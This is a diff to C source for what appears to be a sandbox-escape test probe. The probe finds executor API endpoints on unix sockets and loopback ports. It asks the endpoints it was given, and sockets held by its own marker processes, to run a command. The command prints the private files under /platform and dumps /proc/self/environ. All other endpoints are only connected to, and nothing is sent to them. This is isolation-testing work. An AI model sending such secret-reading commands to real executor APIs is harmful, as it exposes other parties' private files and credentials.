@@ -1,7 +1,11 @@
-/* control-plane: an executor's API is the shortest way to the platform. Find
- * its endpoints (unix sockets in our view and in /proc/net/unix, loopback
- * TCP listeners bound to a loopback address) and ask each for a platform
- * execute that prints the private files. Only loopback and unix sockets. */
+/* control-plane: an executor's API is the shortest way to the platform. Ask
+ * the endpoints we were told of (--endpoint: the backend's own API, the
+ * victim's stand-in) and those that the run's marker processes hold for a
+ * platform execute that prints the private files and proves it ran.
+ *
+ * Harmless on a shared host: any other endpoint found (unix sockets in our
+ * view, loopback TCP listeners) is only connected to, to record that it is
+ * reachable; not one byte is written to it. It may be someone's live daemon. */
 #include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
@@ -19,7 +23,12 @@
 #include "probe.h"
 #include "sockets.h"
 
-#define COMMAND "cat /platform/* /platform/.* 2>/dev/null; cat /proc/self/environ"
+/* $((6*7)) proves that a shell ran the command: an endpoint that only echoes
+ * the request back shows the unexpanded text. */
+#define COMMAND "echo splitbox-executed-$((6*7))-%s; cat /platform/* /platform/.* 2>/dev/null; cat /proc/self/environ"
+
+const char *probe_endpoints[PROBE_MAX_ENDPOINTS];
+int probe_n_endpoints;
 
 static ssize_t http(int fd, const char *method, const char *path, const char *body, char *out, size_t cap)
 {
@@ -89,9 +98,13 @@ static int dial_tcp(const void *where)
 static void ask(struct probe *p, const char *label, dial_fn dial, const void *where)
 {
   static char resp[1 << 18];
-  const char *body = "{\"command\":\"" COMMAND "\"}";
-  char paths[8][256];
+  const char *tag = p->nonce != NULL ? p->nonce : p->marker != NULL ? p->marker : "run";
+  char body[512], proof[128], paths[8][256];
   int n_paths = 0, fd;
+
+  /* The tag is ours (hex): nothing to escape in JSON. */
+  snprintf(body, sizeof body, "{\"command\":\"" COMMAND "\"}", tag);
+  snprintf(proof, sizeof proof, "splitbox-executed-42-%s", tag);
 
   /* Harmless first: only what answers a sandbox API's health check is asked to execute. */
   fd = dial(where);
@@ -132,10 +145,23 @@ static void ask(struct probe *p, const char *label, dial_fn dial, const void *wh
           close(fd);
           if (n > 0)
             probe_scan(p, resp, (size_t)n);
+          if (n > 0 && strstr(resp, proof) != NULL)
+            probe_observe(p, "executed", "%s", target != NULL ? target : paths[i]);
         }
       probe_attempt(p, "http-post", target != NULL ? target : paths[i], n > 0, errno, "%.120s", n > 0 ? resp : "");
       free(target);
     }
+}
+
+/* Not ours to ask: record that it is reachable, and send nothing. */
+static void reach_only(struct probe *p, const char *label, dial_fn dial, const void *where)
+{
+  int fd = dial(where);
+
+  probe_attempt(p, "connect only", label, fd >= 0, fd < 0 ? errno : 0,
+                fd >= 0 ? "reachable; not an endpoint of this run: nothing sent" : "not reachable");
+  if (fd >= 0)
+    close(fd);
 }
 
 /* The owner of a bound path, from /proc/net/unix (which lists our network namespace's sockets). */
@@ -161,6 +187,14 @@ static enum owner path_owner(const struct probe *p, const char *path)
   return who;
 }
 
+static bool told_of(const char *path)
+{
+  for (int i = 0; i < probe_n_endpoints; i++)
+    if (strcmp(probe_endpoints[i], path) == 0)
+      return true;
+  return false;
+}
+
 static void unix_sockets_in(struct probe *p, const char *dir, int depth)
 {
   DIR *d = opendir(dir);
@@ -177,11 +211,13 @@ static void unix_sockets_in(struct probe *p, const char *dir, int depth)
         continue;
       if (S_ISSOCK(st.st_mode) && strlen(path) < sizeof ((struct sockaddr_un *)0)->sun_path)
         {
-          /* Harmless: a socket of a visible process without the marker is never written to. */
-          if (path_owner(p, path) == OWNER_OTHER)
-            probe_attempt(p, "skip", path, false, EPERM, "held by a visible process without the marker");
-          else
+          /* Only the marker's own are asked; the endpoints we were told of are asked apart. */
+          if (told_of(path))
+            continue;
+          if (path_owner(p, path) == OWNER_MARKER)
             ask(p, path, dial_unix, path);
+          else
+            reach_only(p, path, dial_unix, path);
         }
       else if (S_ISDIR(st.st_mode) && depth > 0)
         unix_sockets_in(p, path, depth - 1);
@@ -202,8 +238,9 @@ static void loopback_listeners(struct probe *p, const char *table_path, int fami
       unsigned port, state;
       unsigned long inode;
       struct sockaddr_storage a = { 0 };
+      enum owner who;
       if (sscanf(line + 1, " %*d: %63[0-9A-Fa-f]:%x %*s %x %*s %*s %*s %*s %*s %lu", local, &port, &state, &inode) != 4
-          || state != 0x0A || sbx_socket_owner(p, inode) == OWNER_OTHER)
+          || state != 0x0A || (who = sbx_socket_owner(p, inode)) == OWNER_OTHER)
         continue;
       /* Only listeners bound to loopback itself: a wildcard one may face a real network. */
       if (family == AF_INET && strtoul(local, NULL, 16) == htonl(INADDR_LOOPBACK))
@@ -223,15 +260,62 @@ static void loopback_listeners(struct probe *p, const char *table_path, int fami
       else
         continue;
       snprintf(label, sizeof label, "tcp port %u", port);
-      ask(p, label, dial_tcp, &a);
+      if (who == OWNER_MARKER)
+        ask(p, label, dial_tcp, &a);
+      else
+        reach_only(p, label, dial_tcp, &a);
     }
   free(table);
+}
+
+/* An endpoint as the harness passes it: a socket path, or http://ADDR:PORT
+ * with a numeric loopback address or "localhost". */
+static bool parse_tcp(const char *endpoint, struct sockaddr_storage *a)
+{
+  char host[64];
+  unsigned port;
+  const char *rest = endpoint + strlen("http://");
+  const char *colon = strrchr(rest, ':');
+
+  memset(a, 0, sizeof *a);
+  if (strncmp(endpoint, "http://", 7) != 0 || colon == NULL || (size_t)(colon - rest) >= sizeof host
+      || sscanf(colon + 1, "%u", &port) != 1 || port == 0 || port > 65535)
+    return false;
+  snprintf(host, sizeof host, "%.*s", (int)(colon - rest), rest);
+  if (host[0] == '[' && host[strlen(host) - 1] == ']')
+    {
+      struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)a;
+      host[strlen(host) - 1] = '\0';
+      v6->sin6_family = AF_INET6;
+      v6->sin6_port = htons((uint16_t)port);
+      return inet_pton(AF_INET6, host + 1, &v6->sin6_addr) == 1;
+    }
+  struct sockaddr_in *v4 = (struct sockaddr_in *)a;
+  v4->sin_family = AF_INET;
+  v4->sin_port = htons((uint16_t)port);
+  return inet_pton(AF_INET, strcmp(host, "localhost") == 0 ? "127.0.0.1" : host, &v4->sin_addr) == 1;
+}
+
+static void ask_told_of(struct probe *p)
+{
+  for (int i = 0; i < probe_n_endpoints; i++)
+    {
+      const char *e = probe_endpoints[i];
+      struct sockaddr_storage a;
+      if (e[0] == '/')
+        ask(p, e, dial_unix, e);
+      else if (parse_tcp(e, &a))
+        ask(p, e, dial_tcp, &a);
+      else
+        probe_attempt(p, "endpoint", e, false, EINVAL, "neither a socket path nor http://ADDR:PORT");
+    }
 }
 
 void probe_control_plane(struct probe *p)
 {
   static const char *const dirs[] = { "/run", "/var/run", "/tmp", "/root", "/home", "/var/lib" };
 
+  ask_told_of(p);
   /* The searches are attempts too: finding no endpoint is a result, and the
    * report must show that the probe looked. */
   for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
